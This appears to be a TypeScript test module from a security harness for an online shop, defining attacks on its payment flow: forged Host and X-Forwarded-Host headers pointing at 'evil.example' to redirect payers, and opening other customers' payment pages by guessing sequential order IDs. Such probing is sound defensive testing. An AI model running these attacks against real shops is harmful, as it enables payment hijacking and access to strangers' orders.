/** Leading whoever pays to another site, and paying for strangers. */
import type { Attack } from "./attack";
import type { Stage } from "./stage";

const evil = "evil.example";

/** An order that is to be paid online, and the address of its payment page. */
async function unpaid(stage: Stage, from: string) {
  const guest = await stage.guest(from);
  const placed = await stage.order(guest, { payment_method: "digital_payment" });
  const { order_id: id } = placed.body as { order_id: number };
  const page = (callback: string, more: Record<string, string> = {}) =>
    `/payment-mobile?${new URLSearchParams({ order_id: String(id), customer_id: String(guest.id), payment_method: "sandbox", callback, ...more })}`;
  return { guest, id, page };
}

export const paymentAttacks: Attack[] = [
  ...(["host", "x-forwarded-host"] as const).map(
    (header): Attack => ({
      name: `lead a payment elsewhere by ${header}`,
      run: async (stage) => {
        const { page } = await unpaid(stage, "203.0.113.50");
        const pages = [page(`http://${evil}/home`), page(`${stage.server.url}/home`)];
        const answers = [];
        for (const path of pages) answers.push(await stage.rawGet(path, { [header]: evil }));
        const led = answers.some(({ location }) => location.includes(evil));
        return {
          works: led,
          seen: answers.map(({ status, location }) => `${status} ${location.slice(0, 40)}`.trim()).join(", "),
        };
      },
    }),
  ),
  {
    name: "open a customer's payment page by their running number",
    run: async (stage) => {
      const { token } = await stage.customer("payer", "203.0.113.51");
      const body = stage.orderBody(
        { id: 0, from: "" },
        { payment_method: "digital_payment", guest_id: undefined },
      );
      const placed = await stage.ask("/api/v1/customer/order/place", {
        method: "POST",
        body,
        token,
        headers: stage.shopHeaders,
      });
      const { order_id, user_id } = placed.body as { order_id: number; user_id: number };
      const query = new URLSearchParams({
        order_id: String(order_id),
        customer_id: String(user_id),
        payment_method: "sandbox",
        callback: `${stage.server.url}/home`,
      });
      const page = await stage.ask(`/payment-mobile?${query}`, { from: "203.0.113.52" });
      return { works: page.status === 303, seen: `order ${placed.status}, page ${page.status}` };
    },
  },
];
